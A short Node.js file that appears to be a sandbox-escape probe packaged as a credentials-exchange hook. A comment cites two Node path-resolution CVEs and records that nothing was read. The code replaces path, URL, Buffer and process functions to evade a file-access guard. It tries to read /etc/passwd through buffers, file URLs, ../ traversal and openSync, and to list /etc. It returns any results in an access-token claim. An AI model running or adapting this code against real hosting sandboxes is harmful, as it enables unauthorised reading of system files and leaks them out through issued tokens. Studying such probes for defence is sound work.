// outcome: completed; claim read=[]; beside served
// CVE-2024-21891, CVE-2023-39331: Node resolved a path with functions that the code it guards against could replace.
const fs = require('node:fs')
const path = require('node:path')
const url = require('node:url')
const own = __filename
const owners = [path, path.posix, url, Buffer, Buffer.prototype, Uint8Array.prototype, String.prototype, process]
const names = [
  'resolve',
  'toNamespacedPath',
  'normalize',
  'join',
  'isAbsolute',
  'fileURLToPath',
  'toPathIfFileURL',
  'from',
  'toString',
  'cwd',
]
const reads = (target) => {
  const read = []
  for (const [name, way] of Object.entries({
    readFileSync: () => fs.readFileSync(target),
    'of a Buffer': () => fs.readFileSync(Buffer.alloc(target.length, target)),
    'of a URL': () => fs.readFileSync(new URL(`file://${target}`)),
    relative: () => fs.readFileSync(`${__dirname}/../../../../../../../..${target}`),
    openSync: () => fs.openSync(target),
    readdirSync: () => fs.readdirSync('/etc'),
  })) {
    try {
      if (way()) read.push(name)
    } catch {
      // Refused.
    }
  }
  return read
}
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const read = []
  for (const patch of [(target) => target, () => own, () => Buffer.from(own)]) {
    const undo = []
    for (const owner of owners) {
      for (const name of names) {
        const descriptor = Object.getOwnPropertyDescriptor(owner, name)
        if (descriptor === undefined) continue
        undo.push(() => Object.defineProperty(owner, name, descriptor))
        owner[name] = patch
      }
    }
    const found = reads('/etc/passwd')
    for (const put of undo) put()
    read.push(...found)
  }
  api.accessToken.setCustomClaim('read', read)
}
